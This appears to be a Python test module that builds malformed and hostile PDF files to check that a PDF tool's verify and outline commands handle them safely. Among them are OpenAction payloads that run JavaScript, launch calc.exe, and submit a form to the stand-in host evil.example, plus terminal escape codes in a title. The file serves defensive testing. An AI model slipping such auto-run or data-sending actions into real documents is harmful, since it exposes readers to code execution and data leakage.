"""PDF files: those that draw without end, and those that are none."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.hostile.attack import Attack
from tests.unit.pdf_file import hostile

_OTHERS: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "text": lambda: b"just words",
    "only its head": lambda: b"%PDF-1.7\n",
    "cut off": lambda: hostile.tagged()[:-60],
    "without its table": lambda: hostile.tagged().split(b"xref")[0],
    "a table that leads nowhere": lambda: hostile.tagged().replace(b"startxref\n", b"startxref\n9"),
    "a catalogue that is a page": lambda: hostile.tagged({1: "3 0 R"}),
    "no pages": lambda: hostile.tagged({2: "<</Type/Pages/Kids[]/Count 0>>"}),
    "a billion pages by its word": lambda: hostile.tagged({2: "<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"}),
    "a script on opening": lambda: hostile.tagged(catalogue="/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "a program to start": lambda: hostile.tagged(catalogue="/OpenAction<</S/Launch/F(calc.exe)>>"),
    "a form that is sent": lambda: hostile.tagged(catalogue="/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
    "locked by a method that is none": lambda: hostile.tagged() .replace(
        b"/Root 1 0 R>>", b"/Root 1 0 R/Encrypt<</Filter/Evil/V 99>>>>"),
    "a title with codes": lambda: hostile.tagged({9: "<</Title(a\\033]0;b\\007)>>"}).replace(
        b"/Root 1 0 R>>", b"/Root 1 0 R/Info 9 0 R>>"),
    "numbers beyond numbers": lambda: hostile.tagged(words=b"1e999 0 0 -1e999 0 0 cm " + hostile.WORDS),
    "a hundred thousand saved states": lambda: hostile.tagged(words=b"q " * 100_000 + hostile.WORDS),
    "random bytes": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400,
}  # fmt: skip
_FILES = hostile.READ | hostile.REFUSED | hostile.ANYHOW | _OTHERS


def _made(make: Callable[[], bytes]) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(make())


ATTACKS = tuple(
    Attack(name, {"x.pdf": _made(make)}, "verify x.pdf", -1, never="\x1b")
    for name, make in _FILES.items()
) + tuple(
    Attack(f"{name}, for outline", {"x.pdf": _made(make)}, "outline x.pdf", -1, never="\x1b")
    for name, make in _OTHERS.items()
)
